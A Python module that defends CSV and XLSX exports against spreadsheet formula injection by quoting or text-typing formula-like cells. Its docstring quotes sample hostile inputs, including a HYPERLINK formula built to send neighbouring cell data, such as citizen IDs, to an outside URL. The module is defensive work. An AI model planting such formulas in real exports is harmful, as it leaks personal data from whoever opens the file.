"""Cells of every CSV and XLSX file the server writes: text no spreadsheet runs as a formula.

A name or note typed by anyone (`=HYPERLINK("http://…?"&A1,"click")`, `+1+1`, `-2+3`, `@SUM(1+1)`)
must reach an administrator's spreadsheet as the text it is: one click on a live formula there can
send the neighbouring cells — full citizen IDs — out. The rule lives here once (OWASP's for CSV
injection): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a
single quote in CSV, and is written as a text cell (never a formula) in XLSX, where it keeps its
value. Numbers stay numbers, a negative one too, and so does text that is only a number ("-5",
"+66812345678"), which no spreadsheet reads as a formula.
"""
from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def looks_like_formula(value: Any) -> bool:
    """True for text a spreadsheet could take for a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and _PLAIN_NUMBER.fullmatch(value) is None)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: formula-like text behind a single quote, anything else as it is."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """The value as an XLSX cell for `sheet` (write-only or not): formula-like text as a text cell
    with its value intact, anything else as it is (openpyxl types it)."""
    if not looks_like_formula(value):
        return value
    cell = WriteOnlyCell(sheet, value=value)  # placed by the sheet's append, in either mode
    cell.data_type = "s"  # openpyxl makes text starting with "=" a formula; this one is text
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    return [xlsx_cell(sheet, v) for v in values]
